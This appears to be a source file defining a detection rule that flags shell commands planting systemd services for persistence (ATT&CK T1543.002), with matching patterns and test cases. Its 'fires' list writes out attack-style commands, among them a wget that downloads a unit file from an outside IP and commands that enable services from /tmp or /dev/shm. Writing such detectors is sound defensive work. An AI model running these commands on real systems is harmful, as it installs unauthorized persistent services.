import { commandRule } from "../../command-rule.js";
import { ancestryOf, find, parentOf, TEMPORARY, writesTo } from "../../shell/look.js";

/** The description of a service was written by a shell command, or a service is made that starts a program from an unusual place. */
export const systemdUnitPlanted = commandRule({
  id: "systemd-unit-planted",
  alertType: "Picket_SystemdUnitPlanted",
  name: "Service planted by a command",
  severity: "Medium",
  about:
    "The description of a service was written by a shell command, or a service is made that starts a program from an unusual place.",
  tactics: ["Persistence", "Privilege Escalation"],
  techniques: ["T1543.002"],
  falsePositives: [
    "Installers written as shell scripts write their own unit; the program it starts lies in /usr or /opt then.",
  ],
  witness: ["systemd/system", "systemd/user", "systemd-run", ".service", ".timer"],
  sees: (reading, event) => {
    if (
      /(?:dpkg|apt|rpm|ansible|puppet|chef|salt|cloud-init)/.test(`${parentOf(event)}\n${ancestryOf(event)}`)
    )
      return undefined;
    return (
      writesTo(
        reading,
        /^(?:\/etc|\/usr\/lib|\/lib|\/run|\/home\/[^/]+\/\.config|\/root\/\.config)\/systemd\/(?:system|user)\/\S+\.(?:service|timer|path|socket)$/,
        ({ name, argv }) =>
          /^(?:echo|printf|cat|tee|curl|wget)$/.test(name) ||
          (/^(?:cp|mv|install|ln)$/.test(name) && argv.slice(1, -1).some((word) => TEMPORARY.test(word))),
      ) ??
      find(
        reading,
        /^systemctl$/,
        ({ argv }) =>
          argv.some((word) => /^(?:enable|link)$/.test(word)) &&
          argv.some((word) => TEMPORARY.test(word) || /^\/(?:home|root)\/.*\.service$/.test(word)),
      ) ??
      reading.commands.find(({ via, argv }) => via.includes("systemd-run") && TEMPORARY.test(argv[0] ?? ""))
        ?.text
    );
  },
  did: "planted a service",
  because: "it starts with the device from now on",
  fires: [
    "sh -c echo '[Service]\\nExecStart=/tmp/x' > /etc/systemd/system/kd.service",
    "cp /tmp/x.service /etc/systemd/system/x.service",
    "wget http://203.0.113.9/u -O /lib/systemd/system/upd.service",
    "systemctl enable /var/tmp/a.service",
    "systemd-run --unit=x /dev/shm/x",
  ],
  silent: [
    "systemctl enable nginx.service",
    "cp app.service /etc/systemd/system/app.service",
    "systemctl daemon-reload",
    { line: "sh -c cat > /etc/systemd/system/a.service", parent: "/usr/bin/dpkg" },
    "cat /etc/systemd/system/app.service",
    "systemd-run --scope make -j4",
  ],
});
